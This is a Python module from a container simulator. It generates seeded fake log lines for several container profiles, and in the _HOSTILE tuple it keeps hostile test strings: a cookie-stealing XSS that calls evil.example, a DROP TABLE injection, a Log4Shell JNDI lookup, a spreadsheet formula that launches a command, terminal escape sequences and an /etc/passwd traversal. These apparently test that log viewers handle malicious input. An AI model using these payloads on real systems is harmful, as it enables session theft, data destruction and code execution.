"""What simulated containers print: pools of lines, written once per seed; a tick only picks from them.

Faker writes the pools. It costs about 100 us a line, so it never runs during a run. Its words may change with its
version: the pools have a digest, and the ledger carries it.
"""

import json
from collections.abc import Callable
from hashlib import sha256
from typing import Final, NamedTuple

from faker import Faker

from server.protocol.canonical import LOG_TEXT_BYTES
from server.protocol.messages import LogStream
from simulator.profiles import PROFILES, Profile

_OF_EACH: Final = 40
"""Lines of each kind that Faker varies."""
_RARE_ONE_IN: Final = 512
_LONG_TEXT_BYTES: Final = LOG_TEXT_BYTES + 1500

_UNICODE: Final = (
    "größe geändert: 3 Dateien übersprungen",
    "ジョブが完了しました (42 件)",
    "задача поставлена в очередь",
    "deploy 🚀 finished, 0 ⚠ warnings",
    "مهمة مكتملة",
    "naïve café déjà vu: coöperate",
    "e\u0301 combined, and a family: 👩\u200d👩\u200d👧\u200d👦",
)
_HOSTILE: Final = (
    "<script>fetch('//evil.example/'+document.cookie)</script><img src=x onerror=alert(1)>",
    "'; DROP TABLE samples; --",
    "${jndi:ldap://evil.example/a} %s%s%n {0} {{7*7}}",
    '=HYPERLINK("http://evil.example","sum")|cmd \'/C calc\'!A0',
    "\x1b]0;owned\x07\x1b[2J\x1b[1;1Htitle set, screen cleared",
    "admin\u202egnp.exe \u200b\u2066zero width and turned around\u2069 \ufeff",
    '{"level": "info", "msg": "unfinished',
    "overwritten\rprogress 40 %\rprogress 80 %\x08\x08\x08",
    "\x01\x02\x7f\x85\u2028 control characters \ud7ff\ufffe\uffff",
    "../../../../etc/passwd\t\\x41\\u0041\\n\\",
    "",
)


class Line(NamedTuple):
    """A line of a pool."""

    stream: LogStream
    text: str
    partial: bool = False


Entry = tuple[Line, ...]
"""What is printed at once: mostly one line, of a stack trace all."""


class LogLines:
    """The pools of one seed.

    Attributes:
        kinds: what there is, by name.
        rare: what a reader must survive, and stack traces: one entry in 512.
        alarms: what a burst is made of.
        digest: hexadecimal; equal digests mean equal pools.
    """

    __slots__ = ("_pools", "alarms", "digest", "kinds", "rare")

    def __init__(self, seed: int) -> None:
        fake = Faker("en_US")
        fake.seed_instance(seed)
        self.kinds: dict[str, tuple[Entry, ...]] = {
            name: tuple(make(fake, number) for number in range(_OF_EACH)) for name, make in _MAKERS.items()
        }
        self.kinds["unicode"] = tuple((Line("stdout", text),) for text in _UNICODE)
        self.kinds["hostile"] = tuple((Line("stdout", text),) for text in _HOSTILE)
        long = " ".join(fake.words(_LONG_TEXT_BYTES // 4))
        self.kinds["long"] = ((Line("stdout", f"dump é{long}"[:_LONG_TEXT_BYTES]),),)
        self.kinds["binary"] = ((Line("stderr", f"read 4 bytes: \x00\x7fELF\ufffd from {fake.file_path()}"),),)
        self.kinds["partial"] = ((Line("stdout", f"progress {fake.random_int(1, 99)} %", partial=True),),)
        share = len(_HOSTILE)
        self.rare = self._of("hostile", *("long", "binary", "partial") * share) + self.kinds["trace"][:share]
        self.alarms = self._of("warning")
        self._pools = tuple(self._of(*_POOLS[profile]) for profile in PROFILES)
        self.digest = sha256(repr((self.rare, self.alarms, self._pools)).encode()).hexdigest()

    def pick(self, profile: int, bits: int) -> Entry:
        """The entry that 48 bits of noise choose for a container of a profile, told by its number in `PROFILES`."""
        if bits & _RARE_ONE_IN - 1:
            pool = self._pools[profile]
            return pool[(bits >> 9) % len(pool)]
        return self.rare[(bits >> 9) % len(self.rare)]

    def alarm(self, bits: int) -> Entry:
        """A line of a burst."""
        return self.alarms[bits % len(self.alarms)]

    def _of(self, *kinds: str) -> tuple[Entry, ...]:
        return tuple(entry for kind in kinds for entry in self.kinds[kind])


def _access(fake: Faker, _: int) -> Entry:
    method = fake.random_element(("GET", "GET", "GET", "POST", "PUT", "DELETE"))
    status = fake.random_element((200, 200, 200, 201, 204, 304, 400, 404, 500))
    agent = fake.random_element(("curl/8.5.0", "Go-http-client/2.0", "Mozilla/5.0 (X11; Linux x86_64)"))
    path = f"/{fake.uri_path()}?page={fake.random_int(1, 40)}"
    size = fake.random_int(64, 90_000)
    return (Line("stdout", f'{fake.ipv4()} - - "{method} {path} HTTP/1.1" {status} {size} "{agent}"'),)


def _json(fake: Faker, number: int) -> Entry:
    event = {
        "level": fake.random_element(("debug", "info", "info", "error")),
        "msg": fake.sentence(6),
        "user": fake.user_name(),
        "trace": f"{number:08x}{fake.random_int(0, 2**31):08x}",
        "took_ms": fake.random_int(1, 4000) / 10,
    }
    return (Line("stdout", json.dumps(event)),)


def _warning(fake: Faker, _: int) -> Entry:
    name = fake.random_element(("pool", "cache", "scheduler", "mailer"))
    text = f"WARN  [{name}] {fake.sentence(8)} (attempt {fake.random_int(1, 5)} of 5)"
    return (Line("stderr", text),)


def _sql(fake: Faker, _: int) -> Entry:
    ms = fake.random_int(100, 90_000) / 100
    text = fake.random_element(
        (
            f"LOG:  checkpoint complete: wrote {fake.random_int(1, 9000)} buffers; write={ms} s, sync=0.004 s",
            f"LOG:  duration: {ms} ms  statement: EXECUTE {fake.word()} ({fake.word()})",
            f"LOG:  connection authorized: user={fake.user_name()} database={fake.word()}",
            f'ERROR:  duplicate key value violates unique constraint "{fake.word()}_pkey"',
        )
    )
    return (Line("stderr", f"[{fake.random_int(20, 900)}] {text}"),)


def _plain(fake: Faker, _: int) -> Entry:
    return (Line("stdout", f"{fake.company()}: {fake.bs()}"),)


def _ansi(fake: Faker, _: int) -> Entry:
    colour, level = fake.random_element((("32", "INFO"), ("33", "WARN"), ("1;31", "ERROR"), ("38;5;244", "DEBUG")))
    text = f"\x1b[{colour}m{level}\x1b[0m \x1b[2m{fake.word()}\x1b[22m {fake.sentence(5)}"
    return (Line("stdout", text),)


def _fatal(fake: Faker, _: int) -> Entry:
    text = fake.random_element(
        (
            f"FATAL cannot connect to {fake.word()}:5432: connection refused",
            f"panic: environment variable {fake.word().upper()}_URL is not set",
            f"exited: {fake.word()} (exit status 1; not expected)",
            f"starting {fake.word()} {fake.random_int(1, 9)}.{fake.random_int(0, 40)}",
        )
    )
    return (Line("stderr", text),)


def _heap(fake: Faker, _: int) -> Entry:
    used = fake.random_int(40, 99)
    return (Line("stderr", f"[GC] heap {used} % used, {fake.random_int(1, 900)} ms paused, {fake.word()} cache kept"),)


def _trace(fake: Faker, _: int) -> Entry:
    lines = ["Traceback (most recent call last):"]
    for _frame in range(fake.random_int(2, 6)):
        lines.append(f'  File "/srv/app/{fake.word()}.py", line {fake.random_int(1, 900)}, in {fake.word()}')
        lines.append(f"    {fake.word()} = self.{fake.word()}({fake.word()}, {fake.random_int(0, 99)})")
    lines.append(f"ValueError: {fake.word()} = {fake.random_int(0, 999)}: expected <{fake.word()}>")
    return tuple(Line("stderr", line) for line in lines)


_MAKERS: Final[dict[str, Callable[[Faker, int], Entry]]] = {
    "access": _access, "json": _json, "warning": _warning, "sql": _sql, "plain": _plain, "ansi": _ansi, "fatal": _fatal,
    "heap": _heap, "trace": _trace,
}  # fmt: skip
_POOLS: Final[dict[Profile, tuple[str, ...]]] = {
    Profile.WEB: ("access", "access", "access", "json", "warning", "unicode", "ansi"),
    Profile.DATABASE: ("sql", "sql", "sql", "warning", "plain"),
    Profile.WORKER: ("json", "json", "plain", "ansi", "warning", "unicode"),
    Profile.CRON: ("plain", "json", "warning"),
    Profile.IDLE: ("access", "plain", "unicode"),
    Profile.LEAKING: ("json", "heap", "heap", "warning"),
    Profile.CRASH_LOOPING: ("fatal", "fatal", "fatal", "trace", "plain"),
}
"""The kinds that the containers of a profile print; one named twice comes twice as often."""
